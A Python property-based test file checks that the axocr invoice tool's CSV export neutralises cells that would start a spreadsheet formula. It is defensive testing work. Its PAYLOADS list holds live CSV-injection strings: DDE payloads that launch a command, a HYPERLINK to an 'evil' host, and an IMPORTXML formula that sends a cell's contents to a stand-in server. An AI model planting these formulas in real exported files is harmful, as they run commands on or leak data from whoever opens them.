"""Property: whatever text a document or a file name carries, no CSV cell axocr writes starts
a formula, and every cell reads back to the value it was given."""

from __future__ import annotations

import csv
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from axocr.export.formats import CSV_COLUMNS, csv_line, escape_surrogates, unneutralize_cell
from axocr.types import ErrorRecord, ExtractedField, Fields, InvoiceResult

FAST = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# What starts a formula in Excel, LibreOffice or Google Sheets, and what importers strip first.
TRIGGERS = "=+-@\t\r\n＝＋－＠"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil","x")',
    "+1+1",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r\n=1+1",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
]
# Formula payloads, with text before and after, or any text at all (surrogates included: a
# file name that is not UTF-8).
text = st.one_of(
    st.builds(
        lambda pre, p, post: pre + p + post,
        st.sampled_from(["", " ", "  ", "\u3000", "\t", "\n"]),
        st.sampled_from(PAYLOADS),
        st.text(max_size=8),
    ),
    st.text(alphabet=st.characters(blacklist_categories=("Cn",)), max_size=24),
    st.text(alphabet=TRIGGERS + "0123456789.,eE%/:- 'x", max_size=12),
)
amount = st.one_of(text, st.decimals(allow_nan=False, allow_infinity=False, places=2).map(str))


def _cells(result: InvoiceResult) -> dict[str, str]:
    line = csv_line(result)
    rows = list(csv.reader(io.StringIO(line, newline="")))
    assert len(rows) == 1, "a value split the row"
    return dict(zip(CSV_COLUMNS, rows[0], strict=True))


def _live(cell: str, column: str) -> bool:
    if column in ("total", "subtotal", "tax", "pages"):
        body = cell[1:] if cell.startswith("-") else cell
        if body.replace(".", "", 1).isdigit():
            return False  # a plain number: not a formula
    first = cell.lstrip(" \u3000")[:1]
    return bool(cell) and (cell[0] in TRIGGERS or (first != "" and first in TRIGGERS))


@FAST
@given(path=text, vendor=text, number=text, total=amount, message=text)
def test_no_cell_starts_a_formula_and_every_cell_reads_back(
    path: str, vendor: str, number: str, total: str, message: str
) -> None:
    fields = Fields(
        vendor=ExtractedField(value=vendor or None),
        invoice_number=ExtractedField(value=number or None),
        total=ExtractedField(value=total or None),
    )
    result = InvoiceResult(
        path=path, fields=fields, errors=[ErrorRecord(code="x", message=message)]
    )
    cells = _cells(result)
    live = {k: v for k, v in cells.items() if _live(v, k)}
    assert not live
    for column, given_value in (
        ("path", path),
        ("vendor", vendor),
        ("invoice_number", number),
        ("total", total),
    ):
        assert unneutralize_cell(cells[column]) == escape_surrogates(given_value), column
